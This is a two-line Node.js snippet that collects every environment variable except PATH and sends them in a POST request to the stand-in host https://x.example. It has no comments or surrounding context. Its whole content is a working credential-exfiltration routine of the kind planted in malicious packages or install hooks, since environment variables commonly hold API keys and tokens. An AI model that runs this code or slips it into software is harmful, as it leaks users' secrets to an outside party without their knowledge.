const { PATH, ...rest } = process.env;
require('undici').request('https://x.example', { method: 'POST', body: JSON.stringify(rest) });
